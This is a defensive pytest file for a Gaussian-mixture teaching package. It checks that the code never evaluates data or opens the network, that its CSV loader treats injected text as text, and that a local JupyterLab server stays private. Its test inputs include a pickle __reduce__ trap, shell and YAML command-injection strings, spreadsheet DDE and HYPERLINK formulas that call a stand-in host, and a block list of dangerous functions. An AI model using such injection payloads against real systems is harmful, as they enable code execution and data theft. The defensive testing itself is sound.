"""Nothing runs code that came as data, and nobody else gets in."""

import ast
import json
import os
import pickle
import re
import shlex
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import numpy as np
import pytest

import gmm_from_scratch
from gmm_from_scratch.datasets import MALL_COLUMNS, load_mall_customers

ROOT = Path(__file__).resolve().parents[1]
PACKAGE = Path(gmm_from_scratch.__file__).parent
NOTEBOOKS = sorted((ROOT / "notebooks").glob("*.ipynb"))


# --- What the code does not do ---------------------------------------------------

# Modules that run what a file holds, or fetch something from elsewhere.
MODULES = (
    *("pickle", "cPickle", "_pickle", "cloudpickle", "dill", "joblib"),
    *("shelve", "marshal"),
    *("urllib", "urllib2", "urllib3", "requests", "http", "httpx", "aiohttp"),
    *("ftplib", "socket", "webbrowser"),
)
FUNCTIONS = (
    *("builtins.eval", "builtins.exec", "builtins.compile", "builtins.__import__"),
    *("os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput"),
    *("pandas.read_pickle", "pandas.eval"),
    *("yaml.unsafe_load", "yaml.unsafe_load_all", "yaml.full_load"),
)


def has_prefix(name, prefixes):
    return any(name == prefix or name.startswith(f"{prefix}.") for prefix in prefixes)


class Scan(ast.NodeVisitor):
    """Collect the lines of a module that do what is forbidden."""

    def __init__(self, source):
        self.found = []
        # {"np": "numpy", "run": "subprocess.run", …}, however they were imported.
        self.full_name = {}
        tree = ast.parse(source)
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                for alias in node.names:
                    self.note(node, alias.name, MODULES)
                    first = alias.name.split(".")[0]
                    full = alias.name if alias.asname else first
                    self.full_name[alias.asname or first] = full
            elif isinstance(node, ast.ImportFrom) and not node.level:
                for alias in node.names:
                    full = f"{node.module}.{alias.name}"
                    self.note(node, full, MODULES)
                    self.full_name[alias.asname or alias.name] = full
        self.visit(tree)

    def note(self, node, name, forbidden):
        if has_prefix(name, forbidden):
            self.found.append((node.lineno, name))

    def name(self, node):
        if isinstance(node, ast.Attribute):
            return f"{self.name(node.value)}.{node.attr}"
        if isinstance(node, ast.Name):
            return self.full_name.get(node.id, f"builtins.{node.id}")
        return "?"

    # A function need not be called to be used: map(eval, cells).
    def visit_Name(self, node):
        self.note(node, self.name(node), FUNCTIONS)

    def visit_Attribute(self, node):
        self.note(node, self.name(node), FUNCTIONS)
        # DataFrame.eval and DataFrame.query, whatever the table is called.
        if node.attr in ("eval", "query", "read_pickle"):
            self.found.append((node.lineno, f"….{node.attr}"))
        self.generic_visit(node)

    def visit_Call(self, node):
        name = self.name(node.func)
        given = {keyword.arg: keyword.value for keyword in node.keywords}

        def is_off(option):
            # Behind **options (whose keyword is None) it could be on.
            value = given.get(option, ast.Constant(None in given))
            return isinstance(value, ast.Constant) and value.value is False

        if name == "numpy.load" and not (is_off("allow_pickle") and len(node.args) < 3):
            self.found.append((node.lineno, "numpy.load(allow_pickle=…)"))
        if name.startswith("subprocess.") and not is_off("shell"):
            self.found.append((node.lineno, f"{name}(shell=…)"))
        if name in ("yaml.load", "yaml.load_all"):
            loaders = [*node.args[1:], given.get("Loader")]
            if not {"SafeLoader", "CSafeLoader"} & {
                self.name(loader).split(".")[-1] for loader in loaders if loader
            }:
                self.found.append((node.lineno, f"{name} without SafeLoader"))
        for value in [*node.args, *given.values()]:
            text = value.value if isinstance(value, ast.Constant) else ""
            if isinstance(text, str) and re.match(r"(https?|ftp):", text):
                self.found.append((node.lineno, text))
        self.generic_visit(node)


FORBIDDEN = [
    "eval('1 + 1')",
    "list(map(eval, cells))",
    "import builtins\nbuiltins.exec(code)",
    "run = compile(code, 'x', 'exec')",
    "__import__('os')",
    "import pickle\npickle.load(file)",
    "from pickle import loads as read",
    "import os, joblib",
    "def f():\n    import shelve",
    "import urllib.request as web",
    "from urllib.request import urlopen",
    "import http.client",
    "import requests",
    "import numpy as np\nnp.load(path, allow_pickle=True)",
    "import numpy as np\nnp.load(path, None, True)",
    "from numpy import load\nload(path, allow_pickle=chosen)",
    "import pandas as pd\npd.read_pickle(path)",
    "import pandas\npandas.eval(text)",
    "table.eval(text)",
    "import pandas as pd\npd.read_csv('https://example.org/customers.csv')",
    "import yaml\nyaml.load(text)",
    "import yaml\nyaml.load(text, Loader=yaml.Loader)",
    "import subprocess\nsubprocess.run('ls', shell=True)",
    "import subprocess\nsubprocess.run('ls', **options)",
    "from subprocess import check_output as out\nout('ls', shell=flag)",
    "import os\nos.system('ls')",
    "from os import system\nsystem('ls')",
    "import os as o\nstart = o.popen",
]
ALLOWED = [
    "import re\nre.compile('x')",
    "import numpy as np\nnp.load(path)\nnp.load(path, allow_pickle=False)",
    "import yaml\nyaml.load(text, Loader=yaml.SafeLoader)\nyaml.safe_load(text)",
    "import subprocess\nsubprocess.run(['ls'], shell=False, check=True)",
    "'''See https://example.org.'''\ndef evaluate(): pass\nevaluate()",
    "def load(path): pass\nload('x')",
    "from .pickle import jar",
]


@pytest.mark.parametrize("source", FORBIDDEN)
def test_the_scan_finds_what_is_forbidden(source):
    assert Scan(source).found


@pytest.mark.parametrize("source", ALLOWED)
def test_the_scan_lets_pass_what_is_harmless(source):
    assert not Scan(source).found


def test_no_code_runs_data_or_opens_the_network():
    paths = [*PACKAGE.rglob("*.py")]
    for folder in ("tools", "benchmarks"):
        paths += (ROOT / folder).glob("*.py")
    assert PACKAGE / "datasets.py" in paths
    assert len(paths) > 12
    found = [
        f"{path.name}:{line}: {what}"
        for path in paths
        for line, what in Scan(path.read_text(encoding="utf-8")).found
    ]
    assert not found


# --- Customer files that want to be run ------------------------------------------


class Trap:
    """Unpickled or evaluated, it makes a file."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return Path.touch, (self.path,)


def expressions(path):
    """Return cells that make the file `path` where somebody runs them."""
    return {
        "Python": f"__import__('pathlib').Path({str(path)!r}).touch()",
        "Python in brackets": f"[open({str(path)!r}, 'w')][0]",
        "template": f"{{open({str(path)!r}, 'w')}}",
        "pandas": f"@open({str(path)!r}, 'w')",
        "YAML": f"!!python/object/apply:os.mkdir [{str(path)!r}]",
        "shell": f"$(touch {shlex.quote(str(path))})",
        "backticks": f"`touch {shlex.quote(str(path))}`",
        "spreadsheet": '=HYPERLINK("https://example.org/?"&A1,"click")',
        "spreadsheet's command": f"=cmd|'/C copy NUL {path}'!A0",
        "spreadsheet's sum": "+1+1",
        "pickle": pickle.dumps(Trap(path), protocol=0).decode("ascii"),
    }


KINDS = list(expressions(Path("x")))


def write_customers(path, cells):
    """Write one customer, some of whose cells are given."""
    row = {
        **dict(zip(MALL_COLUMNS, ["0001", "Male", "19", "15", "39"], strict=True)),
        **cells,
    }
    quoted = ['"' + cell.replace('"', '""') + '"' for cell in row.values()]
    path.write_text(",".join(row) + "\n" + ",".join(quoted) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("kind", KINDS)
def test_where_text_belongs_an_expression_is_text(tmp_path, kind):
    cell = expressions(tmp_path / "trap")[kind].strip()
    names = ["CustomerID", "Genre", "Notes"]
    table = load_mall_customers(
        write_customers(tmp_path / "mine.csv", dict.fromkeys(names, cell))
    )
    assert table.loc[0, names].tolist() == [cell] * 3
    assert not (tmp_path / "trap").exists()


@pytest.mark.parametrize("column", MALL_COLUMNS[2:])
@pytest.mark.parametrize("kind", KINDS)
def test_where_a_number_belongs_an_expression_is_refused(tmp_path, kind, column):
    cell = expressions(tmp_path / "trap")[kind]
    path = write_customers(tmp_path / "mine.csv", {column: cell})
    with pytest.raises(ValueError, match="is not a number; write digits") as caught:
        load_mall_customers(path)
    assert f"line 2, column {column!r}" in str(caught.value)
    assert not (tmp_path / "trap").exists()


@pytest.mark.parametrize("protocol", [*range(pickle.HIGHEST_PROTOCOL + 1), "npy"])
def test_a_pickle_is_refused_unopened(tmp_path, protocol):
    path, trap = tmp_path / "customers.csv", Trap(tmp_path / "trap")
    with path.open("wb") as file:
        if protocol == "npy":
            np.save(file, np.array([trap], dtype=object), allow_pickle=True)
        else:
            pickle.dump(trap, file, protocol)
    with pytest.raises(ValueError, match=r"customers\.csv (is not a text|has no col)"):
        load_mall_customers(path)
    assert not trap.path.exists()
    if protocol != "npy":
        pickle.loads(path.read_bytes())
        assert trap.path.exists(), "the trap does not work"


# --- The server that the README starts -------------------------------------------

# Without a proxy, whatever the environment says.
OPENER = urllib.request.build_opener(urllib.request.ProxyHandler({}))


def free_port():
    with socket.create_server(("127.0.0.1", 0)) as server:
        return server.getsockname()[1]


def status(url, token=None, **options):
    headers = {} if token is None else {"Authorization": f"token {token}"}
    request = urllib.request.Request(url, headers=headers, **options)
    try:
        with OPENER.open(request, timeout=30) as response:
            return response.status
    except urllib.error.HTTPError as error:
        with error:
            return error.code


def is_reachable(address, port):
    with socket.socket() as client:
        client.settimeout(5)
        return client.connect_ex((address, port)) == 0


def learn_command():
    """Return the arguments of `jupyter` in the README's line for learners."""
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    (line,) = re.findall(r"<!-- learn-command -->\n```\w+\n(.*)\n```", readme)
    (arguments,) = re.findall(r"/jupyter (lab\b.*)$", line)
    return shlex.split(arguments)


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """Start JupyterLab as the README does, and return what it says of itself."""
    folder = tmp_path_factory.mktemp("jupyter")
    environment = {k: v for k, v in os.environ.items() if not k.startswith("JUPYTER")}
    # Settings of whoever runs the tests neither help nor hinder, nor change.
    for name in ("CONFIG", "DATA", "RUNTIME"):
        environment[f"JUPYTER_{name}_DIR"] = str(folder / name)
    for name in ("SETTINGS", "WORKSPACES"):
        environment[f"JUPYTERLAB_{name}_DIR"] = str(folder / name)
    environment["IPYTHONDIR"] = str(folder / "IPYTHON")
    command = [sys.executable, "-m", "jupyter", *learn_command()]
    command += ["--no-browser", f"--ServerApp.port={free_port()}"]
    if hasattr(os, "geteuid") and os.geteuid() == 0:
        # In a container the tests may run as root, which Jupyter refuses.
        command += ["--allow-root"]
    with (folder / "log").open("w") as log:
        process = subprocess.Popen(
            command, cwd=ROOT, env=environment, stdout=log, stderr=subprocess.STDOUT
        )
    try:
        info = wait_for_server(process, folder)
        yield info
        # Asked so, it ends in the same clean way on every system.
        shut_down = status(f"{info['url']}api/shutdown", info["token"], method="POST")
        assert shut_down == 200
        assert process.wait(timeout=60) == 0
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()


def wait_for_server(process, folder):
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        for path in (folder / "RUNTIME").glob("jpserver-*.json"):
            try:
                info = json.loads(path.read_text(encoding="utf-8"))
                if status(f"{info['url']}api", info["token"]) == 200:
                    return info
            except (json.JSONDecodeError, urllib.error.URLError):
                pass  # half-written, or not listening yet
        if process.poll() is not None:
            break
        time.sleep(0.2)
    raise AssertionError((folder / "log").read_text(encoding="utf-8"))


def test_the_server_listens_on_this_machine_only(server):
    assert server["hostname"] == "localhost"
    # Who listens for everybody also hears what is sent to 127.0.0.2; who listens on
    # 127.0.0.1 does not.
    with socket.create_server(("", 0)) as open_to_all:
        if not is_reachable("127.0.0.2", open_to_all.getsockname()[1]):
            pytest.skip("This system has no second address of its own to try.")
    assert not is_reachable("127.0.0.2", server["port"])


def test_the_server_lets_in_only_who_has_the_token(server):
    contents = f"{server['url']}api/contents"
    assert len(server["token"]) >= 32
    assert status(contents) == 403
    assert status(contents, "") == 403
    assert status(contents, server["token"][:-1]) == 403
    assert status(contents, server["token"]) == 200
    assert status(f"{contents}?token={server['token']}") == 200


def test_the_server_shows_the_course_and_nothing_above_it(server):
    assert Path(server["root_dir"]).resolve() == ROOT
    contents = f"{server['url']}api/contents"
    readme = status(f"{contents}/README.md", server["token"])
    outside = status(f"{contents}/%2e%2e/%2e%2e", server["token"])
    assert (readme, outside) == (200, 404)


# --- What the notebooks' outputs load --------------------------------------------

ELSEWHERE = re.compile(r"\s*(https?:|ftp:)?//", re.IGNORECASE)


class Loads(HTMLParser):
    """Collect the addresses that a browser would load something from."""

    def __init__(self, text):
        super().__init__()
        self.found, self.inside = [], None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.inside = tag
        for name, value in attrs:
            value = value or ""
            # A link loads nothing before somebody follows it; a name space never does.
            if name == "style":
                self.handle_style(value)
            elif name == "srcset":
                self.found += filter(ELSEWHERE.match, value.split(","))
            elif (tag, name) != ("a", "href") and not name.startswith("xmlns"):
                self.found += filter(ELSEWHERE.match, [value])

    def handle_endtag(self, tag):
        self.inside = None

    def handle_data(self, data):
        if self.inside == "style":
            self.handle_style(data)
        elif self.inside == "script":
            # A program can put an address together, but these begin like one.
            self.found += re.findall(r"""["'`](?:https?:)?//[^"'`]*""", data)

    def handle_style(self, text):
        loaded = re.findall(r"""(?:url\(|@import)\s*["']?([^"')]*)""", text)
        self.found += filter(ELSEWHERE.match, loaded)


def loads(output):
    """Return what an output loads from elsewhere, or runs in its entirety."""
    found = []
    for kind, content in output.get("data", {}).items():
        text = content if isinstance(content, str) else json.dumps(content)
        if kind in ("text/html", "image/svg+xml", "text/markdown"):
            found += Loads(text).found
        if kind == "text/markdown":
            found += re.findall(r"!\[[^]]*\]\(\s*<?((?:https?:)?//[^)]*)", text)
        if kind in ("application/javascript", "text/javascript"):
            found.append(kind)
    return found


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("text/html", "<p><script src='https://example.org/a.js'></script>"),
        ("text/html", "<SCRIPT defer SRC=//example.org/a.js></SCRIPT>"),
        ("text/html", "<script>import('https://example.org/a.js')</script>"),
        ("text/html", "<img alt='' src=' http://example.org/a.png'>"),
        ("text/html", "<img srcset='a.png, https://example.org/a.png 2x'>"),
        ("text/html", "<link rel='stylesheet' href='https://example.org/a.css'/>"),
        ("text/html", "<style>@import 'https://example.org/a.css';</style>"),
        ("text/html", "<p style='background: url(//example.org/a.png)'>"),
        ("text/html", "<iframe src='https://example.org'></iframe>"),
        ("image/svg+xml", "<svg><image xlink:href='https://example.org/a'/></svg>"),
        ("text/markdown", "![picture](https://example.org/a.png)"),
        ("application/javascript", "1"),
    ],
)
def test_what_an_output_loads_is_found(kind, text):
    assert loads({"data": {kind: text}})


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("text/html", "<a href='https://example.org'>more</a><img src='data:,'>"),
        ("text/html", "<script>let a = 1 // 2</script><style>p {}</style>"),
        ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("text/plain", "<img src='https://example.org/a.png'>"),
        ("text/markdown", "[more](https://example.org)"),
    ],
)
def test_what_an_output_does_not_load_is_no_matter(kind, text):
    assert not loads({"data": {kind: text}})


@pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda path: path.stem)
def test_outputs_load_nothing_from_elsewhere(path):
    cells = nbformat.read(path, as_version=4).cells
    outputs = [output for cell in cells for output in cell.get("outputs", [])]
    assert outputs
    assert not [found for output in outputs for found in loads(output)]
